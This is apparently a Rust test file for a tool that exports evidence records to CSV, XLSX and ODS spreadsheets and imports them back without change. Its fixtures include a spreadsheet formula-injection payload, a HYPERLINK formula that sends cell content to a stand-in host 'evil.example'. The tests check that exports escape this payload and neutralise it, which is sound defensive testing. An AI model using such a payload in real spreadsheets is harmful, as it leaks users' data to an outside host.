//! Export then import is the identity (spec 6.1), on a repository full of
//! awkward text: Markdown hard breaks, no-break spaces, tabs, trailing blank
//! lines, CRLF in block scalars, quotes, `#`, `:` and text that a
//! spreadsheet would run as a formula. As .csv, as .xlsx, and as .ods saved
//! by LibreOffice; and `--update` touches only what changed.

mod common;

use std::path::{Path, PathBuf};

use common::*;

fn text(out: &std::process::Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// (file, YAML) of the awkward items, beside the fixture's own.
fn awkward() -> Vec<(&'static str, String)> {
    let item = |id: &str, rest: &str| {
        format!(
            "id: {id}\ndate: 2025-04-30\norganisation: kcc\nkind: report\nshows: impact\nareas: [A1]\n{rest}"
        )
    };
    vec![
        (
            "evidence/2025/hard-break.yaml",
            item(
                "E-2025-002",
                "title: \"  Two  spaces,\u{a0}a no-break space and a\ttab  \"\nsummary: |+\n  A Markdown hard break  \n  then \"quotes\", a # hash and key: value\n\n\n",
            ),
        ),
        (
            "evidence/2025/crlf.yaml",
            item(
                "E-2025-003",
                "title: 'Minutes: #3, \"quoted\"'\nsummary: |\n  Written on Windows\n  with CRLF line ends  \n",
            )
            .replace('\n', "\r\n"),
        ),
        (
            "evidence/2025/formula.yaml",
            item(
                "E-2025-004",
                "title: '=HYPERLINK(\"http://evil.example/?x=\"&A3,\"Click\")'\nsummary: \"+44 20 7946 0000\\r\\nsecond line\"\nurl: https://example.org/a#b\n",
            ),
        ),
        (
            "evidence/2025/quoted.yaml",
            item(
                "E-2025-005",
                "title: \"'=already quoted\"\nsummary: \"-5 degrees\\tand a tab\"\n",
            ),
        ),
        (
            "evidence/2025/at.yaml",
            item(
                "E-2025-006",
                "title: \"@SUM(A1)\"\nsummary: \"\\tstarts with a tab\\n\\n\"\n",
            ),
        ),
    ]
}

fn repo() -> Fixture {
    let f = Fixture::new();
    for (file, yaml) in awkward() {
        f.write(file, &yaml);
    }
    f
}

fn evidence(f: &Fixture) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = walkdir::WalkDir::new(f.file("evidence"))
        .into_iter()
        .flatten()
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            let rel = e
                .path()
                .strip_prefix(f.path())
                .unwrap()
                .to_string_lossy()
                .into_owned();
            (
                rel,
                String::from_utf8_lossy(&std::fs::read(e.path()).unwrap()).into_owned(),
            )
        })
        .collect();
    out.sort();
    out
}

fn export(f: &Fixture, out: &Path) {
    f.pack_ok(&["export", "--out", out.to_str().unwrap(), "--force"]);
}

#[test]
fn export_then_import_changes_nothing_in_every_format() {
    let f = repo();
    let before = evidence(&f);
    let tmp = tempfile::tempdir().unwrap();
    let csv = tmp.path().join("log.csv");
    let xlsx = tmp.path().join("log.xlsx");
    export(&f, &csv);
    export(&f, &xlsx);
    // And the CSV as LibreOffice saves it again (its own quoting, UTF-8).
    let resaved: PathBuf = soffice(
        &csv,
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,2057",
        Some("CSV:44,34,76,1,,2057"),
        &tmp.path().join("resaved"),
    )
    .into_iter()
    .next()
    .unwrap();
    for sheet in [&csv, &xlsx, &resaved] {
        for extra in [&[][..], &["--update"][..]] {
            let mut args = vec!["import", sheet.to_str().unwrap()];
            args.extend_from_slice(extra);
            let out = f.pack(&args).output().unwrap();
            let all = text(&out);
            assert_eq!(out.status.code(), Some(0), "{sheet:?} {extra:?}: {all}");
            assert!(
                all.contains("6 item rows; 0 new, 0 to update, 6 unchanged"),
                "{sheet:?} {extra:?}: {all}"
            );
            assert_eq!(evidence(&f), before, "{sheet:?} {extra:?}");
        }
    }
}

/// The workbook saved as .ods by LibreOffice. calamine 0.37 drops an ODS
/// cell's `<text:tab/>`, so a tab inside a cell comes back as nothing and
/// the item conflicts: the reader (src/sheet/import/read.rs, being
/// rewritten) must read it as a tab.
#[test]
fn an_ods_saved_by_libreoffice_changes_nothing() {
    let f = repo();
    let before = evidence(&f);
    let tmp = tempfile::tempdir().unwrap();
    let xlsx = tmp.path().join("log.xlsx");
    export(&f, &xlsx);
    let ods = soffice(&xlsx, "ods", None, &tmp.path().join("ods"));
    let out = f
        .pack(&["import", ods[0].to_str().unwrap()])
        .output()
        .unwrap();
    let all = text(&out);
    assert_eq!(out.status.code(), Some(0), "{all}");
    assert!(
        all.contains("6 item rows; 0 new, 0 to update, 6 unchanged"),
        "{all}"
    );
    assert_eq!(evidence(&f), before);
}

/// The same, with the awkward text LibreOffice's .ods keeps today (all but
/// tabs): double spaces, no-break spaces, line breaks, quotes, formulas.
#[test]
fn an_ods_saved_by_libreoffice_changes_nothing_short_of_tabs() {
    let f = repo();
    for (file, yaml) in awkward() {
        f.write(file, &yaml.replace('\t', " ").replace("\\t", " "));
    }
    let before = evidence(&f);
    let tmp = tempfile::tempdir().unwrap();
    let xlsx = tmp.path().join("log.xlsx");
    export(&f, &xlsx);
    let ods = soffice(&xlsx, "ods", None, &tmp.path().join("ods"));
    for extra in [&[][..], &["--update"][..]] {
        let mut args = vec!["import", ods[0].to_str().unwrap()];
        args.extend_from_slice(extra);
        let out = f.pack(&args).output().unwrap();
        let all = text(&out);
        assert_eq!(out.status.code(), Some(0), "{all}");
        assert!(
            all.contains("6 item rows; 0 new, 0 to update, 6 unchanged"),
            "{all}"
        );
        assert_eq!(evidence(&f), before);
    }
}

#[test]
fn update_rewrites_only_the_field_that_changed() {
    let f = repo();
    let tmp = tempfile::tempdir().unwrap();
    let csv = tmp.path().join("log.csv");
    export(&f, &csv);
    let exported = std::fs::read_to_string(&csv).unwrap();
    // A new title for the item with the hard break and the CRLF one.
    let edited = exported
        .replace(
            "Two  spaces,\u{a0}a no-break space and a\ttab",
            "A new title",
        )
        .replace("Minutes: #3, \"\"quoted\"\"", "Minutes: #4");
    assert_ne!(edited, exported);
    std::fs::write(&csv, edited).unwrap();
    let before = evidence(&f);
    let out = f.pack(&["import", csv.to_str().unwrap()]).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(text(&out).contains("2 conflicting"), "{}", text(&out));
    assert_eq!(evidence(&f), before);
    let out = f
        .pack(&["import", csv.to_str().unwrap(), "--update"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(
        text(&out).contains("0 new, 2 to update, 4 unchanged"),
        "{}",
        text(&out)
    );
    let after = evidence(&f);
    for ((file, old), (_, new)) in before.iter().zip(&after) {
        match file.as_str() {
            "evidence/2025/hard-break.yaml" => {
                let expected = old.replace(
                    "title: \"  Two  spaces,\u{a0}a no-break space and a\ttab  \"\n",
                    "title: \"A new title\"\n",
                );
                assert!(new.starts_with("# Updated by pack from log.csv"), "{new}");
                assert_eq!(new.split_once('\n').unwrap().1, expected, "{new}");
            }
            "evidence/2025/crlf.yaml" => {
                let expected = old.replace(
                    "title: 'Minutes: #3, \"quoted\"'\r\n",
                    "title: \"Minutes: #4\"\r\n",
                );
                assert_eq!(new.split_once("\r\n").unwrap().1, expected, "{new:?}");
            }
            _ => assert_eq!(new, old, "{file}"),
        }
    }
    // And the next import of the same sheet changes nothing.
    let out = f.pack(&["import", csv.to_str().unwrap()]).output().unwrap();
    assert!(
        text(&out).contains("0 new, 0 to update, 6 unchanged"),
        "{}",
        text(&out)
    );
}

/// A CSV export never holds a live formula: LibreOffice, opening it, shows
/// the text, and saving it as a workbook keeps text, not a formula result.
#[test]
fn a_csv_export_holds_no_formula() {
    let f = repo();
    let tmp = tempfile::tempdir().unwrap();
    let csv = tmp.path().join("log.csv");
    export(&f, &csv);
    let raw = std::fs::read_to_string(&csv).unwrap();
    for cell in [
        "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A3,\"\"Click\"\")\"",
        "\"'+44 20 7946 0000\r\nsecond line\"",
        "''=already quoted",
        "'-5 degrees\tand a tab",
        "'@SUM(A1)",
        "'\tstarts with a tab",
    ] {
        assert!(raw.contains(cell), "{cell:?} in {raw}");
    }
    // LibreOffice with formulas evaluated on CSV import (token 13 true).
    for filter in [
        "CSV:44,34,76,1,,2057",
        "CSV:44,34,76,1,,2057,false,false,false,false,false,true",
    ] {
        let made = soffice(
            &csv,
            "xlsx",
            Some(filter),
            &tmp.path().join(filter.len().to_string()),
        );
        let mut book: calamine::Xlsx<_> = calamine::open_workbook(&made[0]).unwrap();
        use calamine::Reader;
        let name = book.sheet_names()[0].clone();
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{filter}: {:?}",
            formulas.used_cells().collect::<Vec<_>>()
        );
        let values = book.worksheet_range(&name).unwrap();
        let cells: Vec<String> = values.used_cells().map(|(_, _, v)| v.to_string()).collect();
        assert!(!cells.iter().any(|c| c == "Click"), "{filter}: {cells:?}");
        assert!(
            cells.iter().any(|c| c.contains("=HYPERLINK(")),
            "{filter}: {cells:?}"
        );
    }
}
